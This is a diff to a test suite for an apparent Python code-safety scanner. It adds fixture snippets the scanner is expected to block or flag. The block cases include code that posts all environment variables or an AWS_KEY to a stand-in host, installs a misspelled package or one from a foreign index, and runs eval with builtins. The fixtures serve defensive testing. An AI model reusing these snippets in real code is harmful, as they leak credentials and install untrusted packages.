@@ -48,6 +48,23 @@ describe('the checks hold', () => {
       },
     ],
     ['value', 'import os\nf = os.system\nf("id")\n'],
+    ['eval with builtins', 'def make(code):\n    return eval(code, {"__builtins__": __builtins__})\nmake(input())\n'],
+    [
+      'an unknown package',
+      'import subprocess, sys\nsubprocess.run([sys.executable, "-m", "pip", "install", "numpyy"])\n',
+    ],
+    [
+      'a well-known package from elsewhere',
+      'import subprocess, sys\nsubprocess.run([sys.executable, "-m", "pip", "install", "numpy", "--index-url", "https://example.org"])\n',
+    ],
+    [
+      'the environment',
+      'import os, requests\nenv = os.environ.copy()\nrequests.post("https://example.org", json={"e": env})\n',
+    ],
+    [
+      'a secret variable',
+      'import os, requests\ndef f():\n    requests.get("https://example.org", params={"k": os.environ.copy()["AWS_KEY"]})\n',
+    ],
     ['map', 'import os\nlist(map(os.system, ["id"]))\n'],
     ['import_module', 'import importlib\nimportlib.import_module("os").system("id")\n'],
     ['import_module joined', 'import importlib\nimportlib.import_module("o"+"s").system("id")\n'],
@@ -208,6 +225,30 @@ describe('the checks warn of', () => {
     [
       'git version at import',
       'import subprocess\ntry:\n    v=subprocess.check_output(["git","rev-parse","HEAD"])\nexcept Exception:\n    v=None\n',
+    ],
+    [
+      'a copy of namedtuple, whose code has no builtins',
+      'def make(name):\n    space = {"__builtins__": {}, "x": name}\n    return eval(f"lambda a: {name}", space)\nmake("a")\n',
+    ],
+    [
+      'well-known packages at import',
+      'import subprocess, sys\ndef install(name, version):\n    subprocess.run([sys.executable, "-s", "-m", "pip", "install", name + "==" + version])\ntry:\n    import lark\nexcept ImportError:\n    install("lark", "1.1.9")\n',
+    ],
+    [
+      'a server given a port by the environment',
+      'import os, requests, subprocess\nclass A:\n    def run(self):\n        env = os.environ.copy()\n        process = subprocess.Popen(["worker"], env=env)\n        requests.get("http://localhost", params={"pid": process.pid, "port": env.get("WORKER_PORT")})\nNODE_CLASS_MAPPINGS={"A":A}\n',
+    ],
+    [
+      'suspending the computer in a node',
+      'import subprocess\nclass A:\n    def run(self):\n        subprocess.run(["rundll32.exe", "powrprof.dll,SetSuspendState", "0,1,0"])\nNODE_CLASS_MAPPINGS={"A":A}\n',
+    ],
+    [
+      'a credential for its own service',
+      'import os\nfrom huggingface_hub import snapshot_download\nclass A:\n    def run(self, model):\n        snapshot_download("org/model.bin", token=os.getenv("HF_TOKEN"))\nNODE_CLASS_MAPPINGS={"A":A}\n',
+    ],
+    [
+      'functions that are only stored',
+      'import os\ndef f():\n    os.system("id")\nall_of = dict(reversed(list({"f": f}.items())))\n',
     ],
     ['main block', 'import os\nif __name__=="__main__":\n    os.system("id")\n'],
     ['yaml unsafe', 'import yaml\nyaml.load(open("a"),Loader=yaml.Loader)\n'],
